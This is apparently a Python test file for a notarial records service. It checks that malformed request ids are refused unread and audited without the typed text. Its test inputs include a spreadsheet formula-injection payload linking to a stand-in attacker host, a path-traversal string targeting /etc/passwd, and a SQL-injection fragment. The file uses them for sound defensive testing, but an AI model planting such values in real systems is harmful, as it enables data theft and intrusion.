"""A request read through the API: what a caller typed as its id reaches the audit trail only when it may name one."""

from collections.abc import Sequence

import pytest

from application.ports.decision_reads import DecisionQuery, DecisionRecord
from application.read_request import ReadRequest
from application.testing.fakes import FakeClock, FakeUnitOfWork
from domain.access import Caller, Profile
from domain.office import NotarialOffice
from domain.search import SearchRequest

CLERK = Caller(id="u1", profile=Profile.NOTARY, crpcen="69001")
UNKNOWN = "0b7f1c2e-5d1a-4c8e-9f3b-2a6d8e4f1c90"


class NoRequests:
    """The read model of a service that holds no request; it counts what it is asked."""

    def __init__(self) -> None:
        self.asked: list[str] = []

    def page(self, query: DecisionQuery) -> Sequence[DecisionRecord]:
        return ()

    def count(self, query: DecisionQuery) -> int:
        return 0

    def requests(self, request_ids: Sequence[str]) -> Sequence[SearchRequest]:
        self.asked.extend(request_ids)
        return ()

    def decisions_of(self, request_ids: Sequence[str]) -> Sequence[DecisionRecord]:
        return ()

    def offices(self, crpcens: Sequence[str]) -> Sequence[NotarialOffice]:
        return ()


@pytest.mark.parametrize("typed", ['=HYPERLINK("http://evil.example/?"&B3,"Voir")', "../../etc/passwd", "",
                                   UNKNOWN + "x", "1 OR 1=1"])
def test_an_id_that_names_nothing_is_refused_unread_and_audited_without_what_was_typed(typed: str) -> None:
    uow, reads = FakeUnitOfWork(), NoRequests()
    assert ReadRequest(reads, uow, FakeClock()).execute(CLERK, typed, ip="203.0.113.7") is None
    [entry] = uow.audit.entries
    assert (entry.action, entry.target, entry.actor_id, entry.ip) == ("request.refused", None, "u1", "203.0.113.7")
    assert reads.asked == []


def test_an_unknown_request_is_refused_and_audited_with_its_id() -> None:
    uow, reads = FakeUnitOfWork(), NoRequests()
    assert ReadRequest(reads, uow, FakeClock()).execute(CLERK, UNKNOWN) is None
    assert [(e.action, e.target) for e in uow.audit.entries] == [("request.refused", UNKNOWN)]
    assert reads.asked == [UNKNOWN]
